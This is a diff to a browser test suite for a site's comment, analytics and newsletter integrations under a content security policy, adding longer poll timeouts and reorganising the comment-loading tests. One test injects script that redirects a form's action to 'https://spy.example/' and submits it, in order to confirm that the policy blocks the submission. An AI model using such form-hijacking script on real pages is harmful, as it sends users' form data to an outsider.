@@ -172,8 +172,12 @@ newsletter: { service: form, url: https://forms.example.org/f, field: address }`
   },
 };
 
+const ISSO = 'Umami, Isso and listmonk';
 const MASTODON = 'Matomo, Mastodon and a form';
 const GISCUS = 'Plausible, giscus and Buttondown';
+
+/** Far more than a busy machine needs. */
+const PATIENCE = { timeout: 30_000 };
 
 const Texts = z.array(z.string());
 
@@ -261,14 +265,16 @@ describeWith(CHROMIUM, 'services', (program) => {
     (name, { settings, counts, loads, without, form }) => {
       it('runs under the policy, and asks for comments only on demand', async () => {
         const { page, asked, complaints, section, button, refusals } = await open(name);
-        await expect.poll(() => asked).toEqual(counts);
+        await expect.poll(() => asked, PATIENCE).toEqual(counts);
         if (loads !== undefined) {
           await button.click();
           await shown(page);
         }
-        await expect.poll(() => asked).toEqual([...counts, ...(loads ?? [])]);
+        // A stylesheet and a request may overtake each other.
+        const all = [...counts, ...(loads ?? [])].toSorted();
+        await expect.poll(() => asked.toSorted(), PATIENCE).toEqual(all);
         expect(await button.count()).toBe(0);
-        await expect.poll(() => heights(section)).toEqual([]);
+        await expect.poll(() => heights(section), PATIENCE).toEqual([]);
         expect(await refusals()).toEqual([]);
         expect(complaints).toEqual([]);
       });
@@ -282,7 +288,7 @@ describeWith(CHROMIUM, 'services', (program) => {
         ];
         const blocked = async () =>
           new Set((await refusals()).map((refusal) => refusal.split(' ')[0]));
-        await expect.poll(blocked).toEqual(new Set(expected));
+        await expect.poll(blocked, PATIENCE).toEqual(new Set(expected));
         expect(asked).toEqual([]);
       });
 
@@ -298,9 +304,8 @@ describeWith(CHROMIUM, 'services', (program) => {
         expect(asked).toEqual([form.join(' ')]);
       });
 
-      it('has the form on the subscribe page, and no comments where a post wants none', async () => {
+      it('has the form on the subscribe page, and no comments where a post wants none', () => {
         const output = required(sites.get(name));
-        expect(await htmlValidate(output)).toEqual([]);
         expect(output.read('subscribe/index.html')).toContain('<form action="');
         const quiet = output.read('2024/03/quiet/index.html');
         expect(quiet).toContain('<form action="');
@@ -322,7 +327,7 @@ describeWith(CHROMIUM, 'services', (program) => {
     await page.evaluate(
       "document.forms[0].action = 'https://spy.example/'; document.forms[0].requestSubmit()",
     );
-    await expect.poll(refusals).toEqual(['form-action https://spy.example/']);
+    await expect.poll(refusals, PATIENCE).toEqual(['form-action https://spy.example/']);
     expect(asked.join(' ')).not.toContain('spy');
   });
 
@@ -345,19 +350,20 @@ describeWith(CHROMIUM, 'services', (program) => {
     expect(complaints).toEqual([]);
   });
 
-  it('say when comments cannot be loaded, and try again', async () => {
-    const { page, section, button } = await open(MASTODON, { replies: ['no reply'] });
+  it('say when comments cannot be loaded, and when there are none yet', async () => {
+    const replies: unknown[] = ['no reply'];
+    const { page, section, button } = await open(MASTODON, { replies });
     await button.click();
     await section.getByText('The comments could not be loaded.').waitFor();
-    await page.unrouteAll();
-    expect(await button.isEnabled()).toBe(true);
-  });
-
-  it('say that there are no comments yet', async () => {
-    const { section, button } = await open(MASTODON, { replies: [] });
+    replies.pop();
     await button.click();
     await section.getByText('There are no comments yet.').waitFor();
+    expect(await page.getByText('The comments could not be loaded.').count()).toBe(0);
     expect(await section.getByRole('link').count()).toBe(1);
+  });
+
+  it.each([ISSO, MASTODON])('are valid HTML with %s', async (name) => {
+    expect(await htmlValidate(required(sites.get(name)))).toEqual([]);
   });
 
   it('run and load nothing that a reply brings', async () => {
